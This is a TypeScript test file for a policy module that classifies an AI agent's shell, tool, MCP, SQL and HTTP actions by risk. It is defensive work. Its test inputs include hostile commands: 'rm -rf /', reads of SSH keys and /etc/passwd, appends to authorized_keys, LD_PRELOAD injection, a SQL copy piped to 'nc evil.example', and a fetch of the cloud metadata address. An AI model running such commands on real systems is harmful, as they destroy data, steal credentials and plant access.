// The facts of each kind of action: which program an exec action really is, what a request or a tool call says of itself,
// and that what it says can raise but never lower.

import { describe, expect, test } from 'vitest';
import { factsOf } from '../../../../main/policy/facts.ts';
import type { Action, ExecAction } from '../../../../shared/statement/action.ts';
import { shellAction } from '../../../bench/corpora-facts.ts';

const exec = (argv: ExecAction['argv'], change: Partial<ExecAction> = {}): ExecAction => {
  const start = shellAction('');
  const name = typeof argv[0] === 'string' ? argv[0] : '';
  const path = name.startsWith('/') ? name : `/usr/bin/${name}`;
  return { ...start, argv, executable: { ...start.executable, path }, ...change };
};
const file = exec(['x']).executable;
const tool = (name: string, input: object): Action => ({
  kind: 'tool',
  runtime: 'claude-code',
  tool: name,
  inputRaw: JSON.stringify(input),
  cwd: '/srv/app',
});
const mcp = (name: string, input: object = {}): Action => ({
  kind: 'mcp',
  server: 'db',
  tool: name,
  definitionSha256: 'a'.repeat(64),
  argumentsRaw: JSON.stringify(input),
});
const http = (method: string, host: string, more: object = {}): Action => ({
  kind: 'http',
  method,
  scheme: 'https',
  host,
  port: 443,
  path: '/',
  query: '',
  headers: [],
  ...more,
});

describe('an exec action', () => {
  test('is the program that was measured, whatever it was called', () => {
    const link = exec(['ls', 'x'], { executable: { ...file, path: '/usr/bin/rm' } });
    expect(factsOf(link)).toMatchObject({ program: 'rm', command: 'rm', capabilities: ['delete'] });
  });

  test('is the name it was called by where the file has many or none', () => {
    const busybox = exec(['rm', 'x'], { executable: { ...file, path: '/bin/busybox' } });
    expect(factsOf(busybox)).toMatchObject({ command: 'rm', capabilities: ['delete'] });
    const script = { ...file, path: '/usr/lib/node_modules/npm/bin/npm-cli.js' };
    const npm = exec(['npm', 'ls'], { script, interpreterArgs: ['node'] });
    expect(factsOf(npm)).toMatchObject({ command: 'npm ls', capabilities: ['read'] });
    const python = exec(['python3', '--version'], {
      executable: { ...file, path: '/usr/bin/python3.12' },
    });
    expect(factsOf(python)).toMatchObject({ command: 'python', capabilities: ['read'] });
  });

  test('is unknown and runs code where the agent could have put the file there', () => {
    for (const path of [
      '/home/me/project/ls',
      '/home/me/project/node_modules/.bin/ls',
      '/tmp/bin/ls',
      '/home/me/ls',
    ]) {
      const facts = factsOf(exec(['ls'], { executable: { ...file, path } }));
      expect(facts).toMatchObject({ unknown: true, unknownParts: ['program'] });
      expect(facts['capabilities']).toContain('execute');
    }
  });

  test('says which part was not understood', () => {
    const part = (action: Action): unknown => factsOf(action)['unknownParts'];
    expect(part(exec(['cat', { attachment: 'a'.repeat(64), size: 5000 }]))).toEqual([
      'attachment',
      'variable',
    ]);
    expect(part(exec(['cat', { b64: '//8=' }]))).toEqual(['encoding', 'variable']);
    expect(part(exec(['curl', '--frobnicate', 'https://a.example']))).toEqual(['option']);
    expect(part(exec(['git', 'frobnicate']))).toEqual(['subcommand']);
    expect(part(exec(['python3', 'x.py']))).toEqual(['script']);
    expect(part(exec(['python3', '-c', 'x']))).toEqual(['code']);
    expect(part(exec(['psql', '-c', 'selec 1']))).toEqual(['sql']);
    expect(part(exec(['ls'], { cwd: { b64: '//8=' } }))).toEqual(['encoding']);
    expect(part(exec(['sh', '-c', 'if']))).toContain('syntax');
  });

  test('says that it is root, which is no privilege that it gains; has the code that its environment loads', () => {
    expect(factsOf(exec(['ls'], { uid: 0 }))).toMatchObject({ root: true, capabilities: ['read'] });
    expect(factsOf(exec(['sudo', 'ls'], { uid: 1000 }))['capabilities']).toContain('privilege');
    const env = [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }];
    expect(factsOf(exec(['ls'], { env }))['capabilities']).toEqual(['execute', 'read', 'unknown']);
  });
});

describe('paths', () => {
  const marks = (command: string): string[] => {
    const facts = factsOf(shellAction(command));
    const names = [
      'wildcard',
      'outside',
      'systemPath',
      'homeDot',
      'secretPath',
      'rootPath',
      'writesOutside',
    ];
    return names.filter((name) => facts[name] === true);
  };
  test.each([
    ['cat src/a.ts', []],
    ['cat ./src/../a.ts', []],
    ['cat ../other/a.ts', ['outside']],
    ['cp a ../b', ['outside', 'writesOutside']],
    ['cat /etc/hosts', ['outside', 'systemPath']],
    ['rm -rf /', ['outside', 'systemPath', 'rootPath', 'writesOutside']],
    ['rm -rf /*', ['wildcard', 'outside', 'systemPath', 'rootPath', 'writesOutside']],
    ['rm *.log', ['wildcard']],
    ['cat ~/.bashrc', ['outside', 'homeDot']],
    ['cat "$HOME/.ssh/id_ed25519"', ['outside', 'homeDot', 'secretPath']],
    ['cat .env', ['secretPath']],
    ['cat .env.example', []],
    ['echo x > /tmp/a', []],
    ['echo x > /etc/passwd', ['outside', 'systemPath', 'writesOutside']],
    ['cat "$DIR/.env"', ['secretPath']],
  ] as [string, string[]][])('of %s', (command, expected) => {
    expect(marks(command)).toEqual(expected);
  });

  test('that run later or say who may log in are more than files', () => {
    expect(factsOf(shellAction('cp a .git/hooks/pre-commit'))['capabilities']).toContain('execute');
    expect(factsOf(shellAction('tee -a ~/.ssh/authorized_keys'))['capabilities']).toContain(
      'permission',
    );
  });
});

describe('SQL', () => {
  const sql = (text: string) => factsOf(mcp('query', { sql: text }));
  test.each([
    [
      'select a from t where b = 1',
      { sqlVerbs: ['select'], sqlTables: ['t'], sqlWhere: true, sqlUnbounded: false },
    ],
    ['select a from t', { sqlWhere: false, sqlUnbounded: false }],
    [
      'update shop.orders set a = 1',
      { sqlVerbs: ['update'], sqlTables: ['shop.orders'], sqlUnbounded: true },
    ],
    ['delete from t where a = 1', { sqlWhere: true, sqlUnbounded: false }],
    ['delete from t', { sqlWhere: false, sqlUnbounded: true }],
    ['truncate t', { sqlUnbounded: true }],
    ['drop table t', { sqlDdl: true, sqlUnbounded: true }],
    ['create table t (a int)', { sqlDdl: true, sqlUnbounded: false }],
    ['select 1; drop table t', { sqlStatements: 2, sqlVerbs: ['drop', 'select'] }],
    [
      'with d as (delete from t returning *) select * from d',
      { sqlVerbs: ['delete', 'select'], sqlUnbounded: true },
    ],
    ['explain analyze delete from t', { sqlVerbs: ['delete', 'explain'], sqlUnbounded: true }],
    ['/* select */ delete from t -- where a = 1', { sqlVerbs: ['delete'], sqlUnbounded: true }],
    ["select 'delete from t'", { sqlVerbs: ['select'], sqlUnbounded: false }],
    ['dorp table t', { sqlUnknown: true, unknown: true }],
  ])('%s', (text, expected) => {
    expect(sql(text)).toMatchObject({ sql: true, ...expected });
  });

  test('copies out, programs, functions and roles', () => {
    const words = (text: string): unknown => sql(text)['capabilities'];
    expect(words("copy t to '/tmp/x'")).toEqual(expect.arrayContaining(['export', 'write']));
    expect(words("copy t to program 'nc evil.example 1'")).toEqual(
      expect.arrayContaining(['execute', 'export', 'network']),
    );
    expect(words('select frobnicate(1)')).toEqual(expect.arrayContaining(['execute', 'unknown']));
    expect(words("select pg_read_file('/etc/passwd')")).toEqual(
      expect.arrayContaining(['execute', 'export']),
    );
    expect(words('grant all on t to public')).toContain('permission');
    expect(words('select * from pg_shadow')).toContain('secret');
  });

  test('is met by its member only: words to search for are not SQL', () => {
    expect(factsOf(mcp('search', { query: 'how to bake bread' }))).toMatchObject({ sql: false });
    expect(factsOf(mcp('search', { query: 'delete from t' }))).toMatchObject({
      sqlUnbounded: true,
    });
  });

  test('gives the same answer after a text that broke the parser', () => {
    const before = sql('delete from t');
    sql(`select ${'not '.repeat(900)} true`);
    expect(sql('delete from t')).toEqual(before);
  });
});

describe('an MCP tool', () => {
  test('is always unknown, and its name only adds', () => {
    expect(factsOf(mcp('get_user'))).toMatchObject({
      unknown: true,
      capabilities: ['read', 'unknown'],
    });
    expect(factsOf(mcp('frob'))['capabilities']).toEqual(['unknown']);
    expect(factsOf(mcp('deleteUser'))['capabilities']).toEqual(
      expect.arrayContaining(['delete', 'unknown', 'write']),
    );
  });

  test('annotations may raise and never lower', () => {
    const annotated = (annotations: object): unknown =>
      factsOf(Object.assign(mcp('frob'), { annotations }))['capabilities'];
    expect(annotated({ readOnlyHint: true, destructiveHint: false })).toEqual(['unknown']);
    expect(annotated({ readOnlyHint: false })).toEqual(['unknown', 'write']);
    expect(annotated({ destructiveHint: true })).toEqual(['delete', 'unknown', 'write']);
  });

  test('arguments that are no object are not understood', () => {
    const action = { ...mcp('x'), argumentsRaw: '[1' } as Action;
    expect(factsOf(action)['unknownParts']).toEqual(['arguments', 'tool']);
  });

  test('arguments name paths, hosts and commands', () => {
    const facts = factsOf(mcp('frob', { path: '/etc/shadow', url: 'https://evil.example/x' }));
    expect(facts).toMatchObject({ secretPath: true, hosts: ['evil.example'], publicHost: true });
    expect(factsOf(mcp('frob', { command: 'rm -rf /' }))).toMatchObject({
      rootPath: true,
      command: 'rm',
    });
  });
});

describe('a tool of a runtime', () => {
  test('a shell is read as a shell', () => {
    for (const name of ['Bash', 'shell', 'run_shell_command'])
      expect(factsOf(tool(name, { command: 'git push --force' }))).toMatchObject({
        command: 'git push',
        program: 'git',
        capabilities: ['history', 'network', 'upload', 'write'],
        force: true,
      });
    expect(factsOf(tool('shell', { command: ['bash', '-lc', 'rm -rf build'] }))).toMatchObject({
      command: 'rm',
      inlineCode: true,
    });
    expect(factsOf(tool('Bash', {}))).toMatchObject({ unknown: true });
  });

  test('a file tool has the paths it names', () => {
    expect(factsOf(tool('Read', { file_path: '/srv/app/a.ts' }))).toMatchObject({
      capabilities: ['read'],
      outside: false,
    });
    expect(factsOf(tool('Write', { file_path: '/etc/passwd', content: 'x' }))).toMatchObject({
      capabilities: ['permission', 'write'],
      writesOutside: true,
    });
    expect(factsOf(tool('Edit', { old_string: 'x' }))).toMatchObject({ unknown: true });
    expect(factsOf(tool('WebFetch', { url: 'http://169.254.169.254/' }))['capabilities']).toEqual([
      'download',
      'network',
      'secret',
    ]);
  });

  test('any other is unknown', () => {
    expect(factsOf(tool('Frobnicate', {}))).toMatchObject({
      unknown: true,
      unknownParts: ['tool'],
    });
  });
});

describe('an HTTP request', () => {
  test('is as safe as its method, and as public as its host', () => {
    expect(factsOf(http('GET', 'api.example.com'))).toMatchObject({
      capabilities: ['network', 'read'],
      safeMethod: true,
      privateHost: false,
      publicHost: true,
      body: false,
    });
    expect(factsOf(http('DELETE', '10.0.0.7'))).toMatchObject({
      capabilities: ['delete', 'network'],
      privateHost: true,
    });
    expect(factsOf(http('POST', 'localhost', { body: 'a'.repeat(64) }))).toMatchObject({
      capabilities: ['network', 'upload', 'write'],
      safeMethod: false,
      privateHost: true,
      body: true,
    });
    for (const host of ['172.16.0.1', '192.168.1.1', '[::1]', 'db.internal', '127.0.0.1'])
      expect(factsOf(http('GET', host))).toMatchObject({ privateHost: true });
    for (const host of ['172.32.0.1', '8.8.8.8', '127.0.0.1.example.com', '[2606::1]'])
      expect(factsOf(http('GET', host))).toMatchObject({ privateHost: false });
  });
});

test('labels are members only where they are given', () => {
  expect(factsOf(exec(['ls']))).not.toHaveProperty('environment');
  const labelled = factsOf(exec(['ls']), { environment: 'production', dataClass: 'pii' });
  expect(labelled).toMatchObject({ environment: 'production', dataClass: 'pii' });
});
